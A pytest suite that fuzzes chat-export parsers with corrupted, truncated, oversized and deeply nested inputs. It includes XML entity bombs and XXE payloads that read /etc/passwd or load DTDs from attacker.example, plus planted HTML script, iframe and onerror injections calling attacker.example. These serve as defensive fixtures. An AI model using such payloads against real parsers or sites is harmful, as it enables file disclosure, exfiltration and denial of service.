"""Every reader on exports that are wrong: cut, spoiled, nested, enormous, with bombs and with scripts; seeds are in names.

Whatever comes in, only `ContainerBroken` and `MemberBroken` leave a reader, what it gives can be stored, and nothing is
fetched or run.
"""

from __future__ import annotations

import io
import json
import random
import re
import socket
import subprocess
import tracemalloc
import urllib.request
from datetime import datetime
from itertools import chain
from typing import TYPE_CHECKING, Any
from zoneinfo import ZoneInfo

import pytest

from ingest.formats.chats import sms
from ingest.formats.chats.archived_files import ArchivedFiles
from ingest.formats.chats.export_members import export_members
from ingest.formats.chats.held_files import HeldFiles
from ingest.formats.chats.mapped import mapped
from ingest.formats.chats.model import Said, Stated
from ingest.formats.chats.registry import NAMES, formats, recognised
from ingest.formats.container import ContainerBroken, Member, MemberBroken, Remark

from . import test_mapping
from .accounts import dumped
from .samples import SAMPLES

if TYPE_CHECKING:
    from collections.abc import Iterable, Iterator, Mapping

    from ingest.formats.chats.model import ExportFormat

ZONE = ZoneInfo("America/Los_Angeles")
READERS = {one.__name__.rpartition(".")[2]: one for one in formats()}  # type: ignore[attr-defined]
MAPPED = {
    "mapped table": mapped(test_mapping.CSV.encode()),
    "mapped document": mapped(test_mapping.JSON.encode()),
}
PIECES = (
    b"\0", b"\xff", b"\xed\xa0\x80", b'"', b"'", b"<", b">", b"&", b"&#0;", b"&#99999999999;", b"\\ud800", b"\\", b",", b";",
    b"\t", b"\r", b"\n", b"{", b"}", b"[", b"]", b"null", b"true", b"-1", b"1e999", b"9" * 400, b"</div>", b"<div>", b"<!--",
    b"<![CDATA[", b"%s%n", b"\xe2\x80\xae", b"../", b": ", b"\xef\xbb\xbf", b"0", b"2024-13-45T99:99:99Z",
)  # fmt: skip
MOST_CHANGES = 5


@pytest.fixture(autouse=True)
def _nothing_is_fetched_or_run(monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*_: object, **__: object) -> None:
        raise AssertionError("a reader tried to reach something")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    monkeypatch.setattr(urllib.request, "urlopen", refuse)
    monkeypatch.setattr(subprocess, "Popen", refuse)


def readers_of(name: str, files: Mapping[str, bytes]) -> Iterable[ExportFormat]:
    """Those that know the export, and the one whose sample it was."""
    if name in MAPPED:
        return (MAPPED[name],)
    known = recognised(HeldFiles(files=files, zone=ZONE))
    own = READERS[name.split(" ")[0]]
    return known if own in known else (*known, own)


def found_in(reader: ExportFormat, files: Mapping[str, bytes]) -> list[Said | Stated | Remark]:
    """All that a reader gives, and that it can be stored."""
    found = []
    try:
        found += reader.read(HeldFiles(files=files, zone=ZONE, name="x.zip"))
    except (ContainerBroken, MemberBroken) as problem:
        assert str(problem)
    for one in found:
        if isinstance(one, Said):
            assert_storable(one)
        elif isinstance(one, Stated):
            assert one.count >= 0
        else:
            assert isinstance(one, Remark)
            assert one.text
    return found


def assert_storable(said: Said) -> None:
    thread, message = said.thread, said.message
    media = chain.from_iterable((one.name, one.media_type) for one in message.attachments)
    reacted = chain.from_iterable((one.emoji, one.by) for one in message.reactions)
    edits = (one.text for one in message.edits)
    told = (
        message.sender,
        message.text,
        message.id,
        message.reply_to,
        message.forwarded_from,
        thread.title,
        thread.key,
    )
    for text in chain(told, media, reacted, edits, message.unmapped, thread.participants, (thread.owner, thread.url)):
        assert text is None or isinstance(text, str)
        assert text is None or text.encode("utf-8") is not None
        assert text is None or "\0" not in text
    moments = chain((message.at, message.edited_at), (one.at for one in message.reactions))
    for moment in moments:
        assert moment is None or (isinstance(moment, datetime) and 1980 < moment.year < 2101)
    assert isinstance(message.raw, bytes)
    assert message.day == "" or datetime.fromisoformat(message.day)


def spoiled(content: bytes, chance: random.Random) -> bytes:
    changed = bytearray(content)
    if chance.random() < 0.15:
        del changed[chance.randrange(len(changed) + 1) :]
    for _ in range(chance.randint(1, MOST_CHANGES)):
        place = chance.randrange(len(changed) + 1)
        kind = chance.random()
        if kind < 0.5:
            changed[place:place] = chance.choice(PIECES) * chance.choice((1, 1, 2, 40))
        elif kind < 0.7:
            del changed[place : place + chance.randint(1, 30)]
        elif kind < 0.85 and place < len(changed):
            changed[place] = chance.randrange(256)
        else:
            start = chance.randrange(len(changed) + 1)
            changed[place:place] = changed[start : start + chance.randint(1, 200)]
    return bytes(changed)


def test_every_reader_has_a_sample_that_it_knows_and_reads():
    known = set()
    for name, files in SAMPLES.items():
        readers = readers_of(name, files)
        said = [one for reader in readers for one in found_in(reader, files) if isinstance(one, Said)]
        assert said, name
        known |= {one.__name__.rpartition(".")[2] for one in recognised(HeldFiles(files=files))}  # type: ignore[attr-defined]
    assert known == set(NAMES)


@pytest.mark.parametrize("seed", range(4))
@pytest.mark.parametrize("name", SAMPLES)
def test_a_spoiled_export_ends_in_messages_or_reasons(name: str, seed: int):
    chance = random.Random(f"{name} {seed}")
    for _ in range(25):
        files = dict(SAMPLES[name])
        for chosen in chance.sample(sorted(files), chance.randint(1, min(2, len(files)))):
            files[chosen] = spoiled(files[chosen], chance)
        for reader in readers_of(name, files):
            found_in(reader, files)


@pytest.mark.parametrize("name", SAMPLES)
def test_a_spoiled_export_becomes_slices_or_reasons(name: str):
    chance = random.Random(name)
    for _ in range(10):
        files = dict(SAMPLES[name])
        chosen = chance.choice(sorted(files))
        files[chosen] = spoiled(files[chosen], chance)
        export = HeldFiles(files=files, zone=ZONE, name="x.zip")
        for found in export_members(export, export, tuple(readers_of(name, files)), ()):
            if isinstance(found, Remark):
                assert "its reader fell over" not in found.text
            elif isinstance(found, Member):
                for piece in found.pieces:
                    assert piece is not None


@pytest.mark.parametrize("name", SAMPLES)
def test_an_export_that_is_cut_off_anywhere_ends_in_messages_or_reasons(name: str):
    for chosen, content in SAMPLES[name].items():
        for place in range(0, len(content), max(1, len(content) // 25)):
            files = {**SAMPLES[name], chosen: content[:place]}
            for reader in readers_of(name, files):
                found_in(reader, files)


def documents() -> Iterator[tuple[str, str, Any]]:
    """The samples' JSON documents, without the formats whose first bytes are something else."""
    for name, files in SAMPLES.items():
        for chosen, content in files.items():
            try:
                value = json.loads(content)
            except ValueError:
                continue
            if isinstance(value, dict | list) and value:
                yield name, chosen, value


DOCUMENTS = list(documents())
each_document = pytest.mark.parametrize(
    ("name", "chosen", "value"), DOCUMENTS, ids=[f"{n} {c}" for n, c, _ in DOCUMENTS]
)


def places(value: Any) -> list[tuple[Any, Any]]:
    found, waiting = [], [value]
    while waiting:
        here = waiting.pop()
        for key, inner in here.items() if isinstance(here, dict) else enumerate(here) if isinstance(here, list) else ():
            found.append((here, key))
            waiting.append(inner)
    return found


def with_text(value: Any, chosen: tuple[Any, Any], text: str) -> bytes:
    """The document with this text, as it stands, in the place of one value."""
    holder, key = chosen
    before, holder[key] = holder[key], "\ue000"
    try:
        return json.dumps(value).replace('"\\ue000"', text, 1).encode("utf-8", "surrogatepass")
    finally:
        holder[key] = before


HARD_VALUES = {
    "1,000 levels deep": "[" * 1_000 + "]" * 1_000,
    "100,000 levels deep": '{"a":' * 100_000 + "1" + "}" * 100_000,
    "duplicate keys": '{"id": 1, "id": [2], "text": "a", "text": {"b": 1}, "content": 1, "content": "x"}',
    "lone surrogates": '"\\ud800 \\udc00\\ud800 \\u0000"',
    "a long number": "9" * 6_000,
    "no number": "NaN",
    "infinity": "-1e999",
    "many values": "[" + "0," * 20_000 + "0]",
    "control characters": '"\x01\x7f\x9b\u202e"',
}


@pytest.mark.parametrize("hard", HARD_VALUES)
@each_document
def test_a_hard_value_of_json_ends_in_messages_or_reasons(name: str, chosen: str, value: Any, hard: str):
    chance = random.Random(f"{name} {chosen} {hard}")
    spots = places(value)
    for spot in chance.sample(spots, min(8, len(spots))):
        files = {**SAMPLES[name], chosen: with_text(value, spot, HARD_VALUES[hard])}
        for reader in readers_of(name, files):
            found_in(reader, files)


MOMENTS = (0, -1, -(10**12), 1, 10**9, 10**10, 1_700_000_000, 1_700_000_000_000, 1_700_000_000_000_000,
           1_700_000_000_000_000_000, 10**25, 2**63, -(2**63), 1e300, 0.5)  # fmt: skip


@pytest.mark.parametrize("moment", MOMENTS)
@each_document
def test_a_moment_is_plausible_or_none(name: str, chosen: str, value: Any, moment: float):
    files = dict(SAMPLES[name])
    written = json.dumps(moment)
    numbers = re.compile(r'(?<![\w.])(")?\d{9,19}(?:\.\d{1,9})?(?(1)")(?![\w.])')
    content = numbers.sub(lambda one: f'"{written}"' if one[1] else written, json.dumps(value))
    files[chosen] = content.encode()
    for reader in readers_of(name, files):
        found_in(reader, files)  # which looks at the years


BIG = 100 << 20


@pytest.mark.parametrize("name", ["telegram", "slack", "skype", "mapped document"])
def test_a_text_of_100_mb_is_passed_over_and_the_next_message_is_read(name: str):
    text = b'"body": "' if name.startswith("mapped") else b'"content": "' if name == "skype" else b'"text": "'
    chosen, whole = next((one, content) for one, content in SAMPLES[name].items() if text in content)
    head, _, tail = whole.partition(text)

    def pieces(wanted: str) -> Iterator[bytes]:
        if wanted != chosen:
            return iter((SAMPLES[name][wanted],))
        block = b"x" * (1 << 20)
        return chain((head, text), (block for _ in range(BIG >> 20)), (tail,))

    sizes = {one: len(content) + (BIG if one == chosen else 0) for one, content in SAMPLES[name].items()}
    export = ArchivedFiles("x.zip", sizes, pieces, zone=ZONE)
    reader = MAPPED.get(name) or READERS[name]
    tracemalloc.start()
    try:
        found = list(reader.read(export))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert [one for one in found if isinstance(one, Said)]
    assert [one.lost for one in found if isinstance(one, Remark) and "larger than can be read" in one.text] == [1]
    assert peak < BIG + (50 << 20)


BOMBS = {
    "laughs": '<!DOCTYPE s [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
    "outside": '<!DOCTYPE s [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
    "remote": '<!DOCTYPE s SYSTEM "http://attacker.example/x.dtd">',
    "parameter": '<!DOCTYPE s [<!ENTITY % a SYSTEM "http://attacker.example/x"> %a;]>',
}


@pytest.mark.parametrize("bomb", BOMBS)
def test_xml_that_declares_entities_is_refused_and_reaches_nothing(bomb: str):
    content = SAMPLES["sms"]["sms.xml"].replace(b"<smses", BOMBS[bomb].encode() + b"<smses", 1)
    content = content.replace(b'body="hi"', b'body="&a;&b;"')
    export = HeldFiles(files={"sms.xml": content}, zone=ZONE)
    with pytest.raises((ContainerBroken, MemberBroken)):
        list(sms.read(export))


TABLES = [
    (name, chosen)
    for name, files in SAMPLES.items()
    for chosen in files
    if chosen.endswith(".csv") and len(files[chosen].splitlines()) > 1
]
each_table = pytest.mark.parametrize(("name", "chosen"), TABLES)


@each_table
def test_no_row_of_a_table_of_odd_bytes_vanishes(name: str, chosen: str):
    content = SAMPLES[name][chosen]
    head, _, rows = content.partition(b"\n")
    row = rows.splitlines()[0]
    for odd in (b"caf\xe9", b"\0", b'a"b', b'""', b"'", b"\xf0\x9f\x98\x80", b"\xed\xa0\x80", b"=1+1"):
        files = {**SAMPLES[name], chosen: head + b"\n" + (row + odd + b"\n") * 3}
        for reader in readers_of(name, files):
            found = found_in(reader, files)
            stated = sum(one.count for one in found if isinstance(one, Stated) and one.path == chosen)
            met = sum(isinstance(one, Said) and one.thread.path == chosen for one in found)
            lost = sum(one.lost or 0 for one in found if isinstance(one, Remark) and one.path == chosen)
            assert stated <= met + lost or name == "youtube"


@each_table
def test_a_quote_that_is_never_closed_costs_no_other_file_and_ends(name: str, chosen: str):
    content = SAMPLES[name][chosen]
    files = {**SAMPLES[name], chosen: content + b'"' + content * 200}
    for reader in readers_of(name, files):
        found_in(reader, files)


@each_table
def test_a_table_in_utf_16_is_read_or_not_known(name: str, chosen: str):
    text = SAMPLES[name][chosen].decode()
    for content in (text.encode("utf-16"), text.encode("utf-16-be"), b"\xef\xbb\xbf" + text.encode()):
        files = {**SAMPLES[name], chosen: content}
        for reader in readers_of(name, files):
            found_in(reader, files)


PAGES = [
    (name, chosen) for name, files in SAMPLES.items() for chosen, content in files.items() if b"<html" in content[:500]
]
PLANTED = (
    '<script>fetch(\'http://attacker.example/x\')</script><img src="http://tracker.example/p.gif" onerror="run()">'
    '<iframe src="http://attacker.example/"></iframe><link rel="stylesheet" href="http://attacker.example/s.css">'
    '<object data="file:///etc/passwd"></object><svg onload="run()"/><meta http-equiv="refresh" content="0;url=x:">'
)


@pytest.mark.parametrize(("name", "chosen"), PAGES)
def test_scripts_of_a_page_are_neither_run_nor_read_and_its_images_not_fetched(name: str, chosen: str):
    text = SAMPLES[name][chosen].decode()
    expected = [
        one.message.text for reader in readers_of(name, SAMPLES[name]) for one in _said(reader, name, text, chosen)
    ]
    for place in [match.end() for match in re.finditer(r"<(?:body|div)[^>]*>", text)]:
        content = text[:place] + PLANTED + text[place:]
        for reader in readers_of(name, {**SAMPLES[name], chosen: content.encode()}):
            said = _said(reader, name, content, chosen)
            assert "fetch(" not in "".join(one.message.text for one in said)
            assert len(said) == len(expected)


def _said(reader: ExportFormat, name: str, text: str, chosen: str) -> list[Said]:
    found = found_in(reader, {**SAMPLES[name], chosen: text.encode()})
    return [one for one in found if isinstance(one, Said)]


def test_files_of_other_kinds_are_recognised_by_no_reader():
    others = {
        "mail.eml": b"From: a@b.example\r\nSubject: messages\r\nDate: Mon, 1 Jan 2024 10:00:00 +0000\r\n\r\nhello\r\n",
        "package.json": dumped({"name": "x", "version": "1", "messages": {"a": "b"}, "users": [], "id": 1}),
        "code.py": b"import json\n\ndef main() -> None:\n    print('messages')\n",
        "list.csv": b"id,name,date\n1,a,2024-01-01\n",
        "page.html": b"<!DOCTYPE html><html><head><title>x</title></head><body><div class='content'>a</div></body></html>",
        "picture.png": b"\x89PNG\r\n\x1a\n" + bytes(100),
        "empty.json": b"",
        "array.json": b"[]",
        "object.json": b"{}",
    }
    for name, content in others.items():
        export = HeldFiles(files={name: content}, zone=ZONE, name=name)
        assert [one.READER for one in recognised(export)] == [], name
    assert recognised(HeldFiles(files=others, zone=ZONE)) == ()


def test_a_stream_that_breaks_in_the_middle_keeps_what_came_before():
    for name, files in SAMPLES.items():
        for reader in readers_of(name, files):
            export = _Breaking(files=files, zone=ZONE)
            try:
                list(reader.read(export))
            except (ContainerBroken, MemberBroken) as problem:
                assert str(problem)


class _Breaking(HeldFiles):
    """Files whose second half cannot be had."""

    def open(self, name: str) -> Any:
        content = HeldFiles.read(self, name)
        return _HalfStream(content[: len(content) // 2])

    def read(self, name: str, limit: int = 64 << 20) -> bytes:
        raise MemberBroken("its bytes are damaged")


class _HalfStream(io.RawIOBase):
    def __init__(self, content: bytes) -> None:
        super().__init__()
        self._held: bytes | None = content

    def readable(self) -> bool:
        return True

    def read(self, size: int | None = -1) -> bytes:
        if not self._held:
            raise MemberBroken("its bytes are damaged")
        end = len(self._held) if size is None or size < 0 else size
        part, self._held = self._held[:end], self._held[end:]
        return part
